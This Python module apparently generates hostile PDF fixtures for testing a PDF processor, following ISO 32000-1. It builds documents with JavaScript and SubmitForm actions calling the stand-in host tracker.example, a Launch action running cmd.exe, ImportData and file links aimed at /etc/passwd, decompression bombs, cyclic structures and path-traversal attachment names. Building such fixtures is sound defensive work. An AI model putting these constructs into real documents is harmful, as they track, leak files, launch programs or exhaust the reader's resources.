"""Hostile PDFs: what acts, what points outside, what lies about itself, what unfolds.

Source: ISO 32000-1, sections 7.5 (structure), 8.10.4 (reference pages), 8.11 (layers), 12.6 (actions), 14.11.7 (OPI).
"""

from __future__ import annotations

import zlib
from collections.abc import Iterator, Mapping

from tests.kit import papers
from tests.kit.hostile.model import Hostile

LETTER = "BT /F 24 Tf 72 720 Td (Letter) Tj ET"


def pdf(catalog: str = "", page: str = "", content: str = LETTER, further: Mapping[int, bytes] | None = None) -> bytes:
    """A PDF of one page, written by hand.

    Args:
        catalog: further entries of the catalogue.
        page: further entries of the page.
        content: of the page.
        further: objects from number 6 on.
    """
    for key, usual in (("/Resources", "<</Font<</F 5 0 R>>>>"), ("/Contents", " 4 0 R")):
        page += "" if key in page else key + usual
    objects = {
        1: f"<</Type/Catalog/Pages 2 0 R{catalog}>>".encode(),
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]{page}>>".encode(),
        4: stream(content.encode()),
        5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        **(further or {}),
    }  # fmt: skip
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start, count = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % count
    for number in range(1, count):
        out += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n"
    return bytes(out) + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (count, start)


def stream(content: bytes, entries: str = "", length: int | None = None) -> bytes:
    """A stream object, which may lie about its length."""
    said = len(content) if length is None else length
    return f"<</Length {said}{entries}>>stream\n".encode() + content + b"\nendstream"


def packed(content: bytes, times: int) -> bytes:
    """A stream that was compressed so many times."""
    for _ in range(times):
        content = zlib.compress(content, 9)
    return stream(content, f"/Filter[{'/FlateDecode' * times}]")


SCRIPT = "/S/JavaScript/JS(app.launchURL\\('https://tracker.example'\\))"
ACTIONS = {
    "script on opening": (f"/OpenAction<<{SCRIPT}>>", "scripts"),
    "script by name": (f"/Names<</JavaScript<</Names[(a)<<{SCRIPT}>>]>>>>", "scripts"),
    "launch": ("/OpenAction<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>", "start another program"),
    "go to another file": ("/OpenAction<</S/GoToR/F(\\\\\\\\host\\\\share\\\\a.pdf)/D[0/Fit]>>", "."),
    "embedded go to": ("/OpenAction<</S/GoToE/T<</R/C/N(a.exe)>>>>", "."),
    "address on opening": ("/OpenAction<</S/URI/URI(https://tracker.example/?seen)>>", "."),
    "form sent on opening": ("/OpenAction<</S/SubmitForm/F(https://tracker.example)>>", "send form data"),
    "form data read in": ("/OpenAction<</S/ImportData/F(/etc/passwd)>>", "send form data"),
    "acts when closed": (f"/AA<</WC<<{SCRIPT}>>/WP<<{SCRIPT}>>>>", "scripts"),
    "endless chain of actions": ("/OpenAction 6 0 R", "."),
    "rich media": ("/OpenAction<</S/Rendition/OP 0/R<</S/MR/N(a)>>>>", "."),
}
ON_A_PAGE = {
    "script in a link": f"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<<{SCRIPT}>>>>]",
    "launch in a link": "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/Launch/F(a.exe)>>>>]",
    "script in a link's address": "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(javascript:a)>>>>]",
    "local address": "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(file:///etc/passwd)>>>>]",
    "acts when its page opens": f"/AA<</O<<{SCRIPT}>>>>",
    "video on the page": "/Annots[<</Type/Annot/Subtype/Screen/Rect[0 0 99 99]>>]",
    "marks in a circle": "/Annots 6 0 R",
    "huge page": "/UserUnit 75000",
    "no area": "/CropBox[0 0 0 0]",
    "a page beyond all measure": "/CropBox[-1e30 -1e30 1e30 1e30]",
    "turned by nonsense": "/Rotate 4711",
}


def _outside() -> Iterator[Hostile]:
    """Content that is fetched from elsewhere."""
    form = "/Type/XObject/Subtype/Form/BBox[0 0 99 99]"
    drawn = "/Resources<</XObject<</X 6 0 R>>>>"
    for name, entries in {
        "reference page": f"{form}/Ref<</F(/etc/passwd)/Page 0>>",
        "OPI picture": f"{form}/OPI<</2.0<</Type/OPI/Version 2.0/F(/etc/passwd)>>>>",
        "OPI picture, first version": f"{form}/OPI<</1.3<</Version 1.3/F(//host/share/a.tif)>>>>",
        "external stream": f"{form}/F(/etc/passwd)",
        "external stream by address": f"{form}/F<</FS/URL/F(https://tracker.example/a)>>",
        "external picture": "/Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/F(a)",
    }.items():
        yield Hostile(
            f"{name}.pdf",
            lambda entries=entries: pdf(page=drawn, content="/X Do", further={6: stream(b"q Q", entries)}),  # type: ignore[misc]
            says="outside itself|left out|picture",
        )


def _bombs() -> Iterator[Hostile]:
    yield Hostile("content bomb.pdf", lambda: pdf(page="/Contents 6 0 R", further={6: packed(bytes(80_000_000), 1)}))
    yield Hostile(
        "content bomb, packed three times.pdf",
        lambda: pdf(page="/Contents 6 0 R", further={6: packed(b"q Q " * 20_000_000, 3)}), is_slow=True,
    )  # fmt: skip
    yield Hostile(
        "picture bomb.pdf",
        lambda: pdf(
            page="/Resources<</XObject<</X 6 0 R>>>>", content="500 0 0 500 0 0 cm /X Do",
            further={6: stream(
                zlib.compress(bytes(3_000_000)),
                "/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceRGB/BitsPerComponent 8"
                "/Filter/FlateDecode",
            )},
        ), is_slow=True,
    )  # fmt: skip
    nests = {
        6 + level: stream(
            b"/X Do " * 10,
            f"/Type/XObject/Subtype/Form/BBox[0 0 99 99]/Resources<</XObject<</X {7 + level} 0 R>>>>",
        )
        for level in range(9)
    }
    nests[15] = stream(b"0 0 9 9 re f", "/Type/XObject/Subtype/Form/BBox[0 0 99 99]")
    yield Hostile(
        "forms within forms, ten to the tenth.pdf",
        lambda: pdf(page="/Resources<</XObject<</X 6 0 R>>>>", content="/X Do", further=nests), is_slow=True,
    )  # fmt: skip
    yield Hostile(
        "form that draws itself.pdf",
        lambda: pdf(
            page="/Resources<</XObject<</X 6 0 R>>>>", content="/X Do",
            further={6: stream(
                b"/X Do", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>"
            )},
        ),
    )  # fmt: skip
    yield Hostile("saved states without end.pdf", lambda: pdf(content="q " * 400_000))
    yield Hostile("operands without end.pdf", lambda: pdf(content="1 " * 900_000 + "m"))


def _liars() -> Iterator[Hostile]:
    plain = pdf()
    yield Hostile("nested arrays.pdf", lambda: pdf("/Names" + "[" * 100_000 + "]" * 100_000))
    yield Hostile("nested dictionaries.pdf", lambda: pdf("/Names" + "<</A" * 30_000 + " 1" + ">>" * 30_000))
    yield Hostile("length too long.pdf", lambda: pdf(further={4: stream(LETTER.encode(), length=2**31 - 1)}))
    yield Hostile("length too short.pdf", lambda: pdf(further={4: stream(LETTER.encode(), length=3)}))
    yield Hostile("length below nothing.pdf", lambda: pdf(further={4: stream(LETTER.encode(), length=-9)}))
    yield Hostile("length that refers to itself.pdf", lambda: plain.replace(b"/Length 36", b"/Length 4 0 R"))
    yield Hostile(
        "count without end.pdf", lambda: plain.replace(b"/Kids[3 0 R]/Count 1", b"/Kids[3 0 R]/Count 2147483647")
    )
    yield Hostile(
        "pages in a circle.pdf", lambda: plain.replace(b"/Kids[3 0 R]/Count 1", b"/Kids[2 0 R 3 0 R]/Count 2"),
    )  # fmt: skip
    yield Hostile("no pages.pdf", lambda: plain.replace(b"/Kids[3 0 R]/Count 1", b"/Kids[]/Count 0"), is_refused=True)
    yield Hostile("no catalogue.pdf", lambda: plain.replace(b"/Root 1 0 R", b"/Root 99 0 R"))
    yield Hostile("table elsewhere.pdf", lambda: plain.replace(b"startxref\n", b"startxref\n99999"))
    yield Hostile(
        "table in a circle.pdf", lambda: plain.replace(b"/Size 6", b"/Size 6/Prev %d" % plain.index(b"xref\n"))
    )
    yield Hostile("size without end.pdf", lambda: plain.replace(b"/Size 6", b"/Size 2147483647"))
    yield Hostile("encrypted with nonsense.pdf", lambda: plain.replace(b"/Size 6", b"/Size 6/Encrypt<</Filter/A/V 9>>"))
    yield Hostile("page that is its own parent.pdf", lambda: plain.replace(b"/Parent 2 0 R", b"/Parent 3 0 R"))
    yield Hostile("two files in one.pdf", lambda: papers.pdf(2, "First") + papers.pdf(1, "Second"))


def _attachments() -> Iterator[Hostile]:
    for name in ("../../up.exe", "C:\\\\Windows\\\\a.dll", "a\\000b.exe", "CON", "a" * 4_000):
        files = f"/Names<</EmbeddedFiles<</Names[({name})<</Type/Filespec/F({name})/EF<</F 6 0 R>>>>]>>>>"
        yield Hostile(
            f"attachment named {len(name)} {name[:4].strip('./')}.pdf",
            lambda files=files: pdf(files, further={6: stream(b"MZ", "/Type/EmbeddedFile")}),  # type: ignore[misc]
            says="attached",
        )
    tree = "/Names<</EmbeddedFiles 6 0 R>>"
    yield Hostile("attachments in a circle.pdf", lambda: pdf(tree, further={6: b"<</Kids[6 0 R 6 0 R]>>"}))
    yield Hostile(
        "attachment bomb.pdf",
        lambda: pdf(
            "/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a)/EF<</F 6 0 R>>>>]>>>>",
            further={6: packed(bytes(200_000_000), 1)},
        ),
    )
    yield Hostile("outline in a circle.pdf", lambda: pdf("/Outlines 6 0 R", further={
        6: b"<</First 7 0 R/Last 7 0 R>>", 7: b"<</Title(a)/Parent 6 0 R/Next 7 0 R/First 7 0 R/Dest[3 0 R/Fit]>>",
    }))  # fmt: skip
    hidden = "/OCProperties<</OCGs[6 0 R]/D<</OFF[6 0 R]/Order[6 0 R]>>>>"
    yield Hostile(
        "hidden layer.pdf",
        lambda: pdf(
            hidden, "/Resources<</Font<</F 5 0 R>>/Properties<</L 6 0 R>>>>",
            f"/OC /L BDC BT /F 24 Tf 72 600 Td (Hidden name) Tj ET EMC {LETTER}",
            {6: b"<</Type/OCG/Name(Names)>>"},
        ), says="hidden layer",
    )  # fmt: skip
    yield Hostile("layers in a circle.pdf", lambda: pdf(
        "/OCProperties<</OCGs[6 0 R]/D<</OFF[6 0 R]>>>>", "/Resources<</Font<</F 5 0 R>>/Properties<</L 7 0 R>>>>",
        f"/OC /L BDC {LETTER} EMC", {6: b"<</Type/OCG/Name(a)>>", 7: b"<</Type/OCMD/OCGs[7 0 R]/VE[/Not 8 0 R]>>",
                                     8: b"[/Not 8 0 R]"},
    ))  # fmt: skip


def files() -> Iterator[Hostile]:
    """All of them."""
    loop = {6: f"<<{SCRIPT}/Next 6 0 R>>".encode()}
    for name, (catalog, says) in ACTIONS.items():
        further = loop if "6 0 R" in catalog else {}
        yield Hostile(f"{name}.pdf", lambda c=catalog, f=further: pdf(c, further=f), says=says)  # type: ignore[misc]
    for name, page in ON_A_PAGE.items():
        further = {6: b"[6 0 R 6 0 R]"} if "6 0 R" in page else {}
        yield Hostile(f"{name}.pdf", lambda p=page, f=further: pdf(page=p, further=f))  # type: ignore[misc]
    yield from _outside()
    yield from _bombs()
    yield from _liars()
    yield from _attachments()
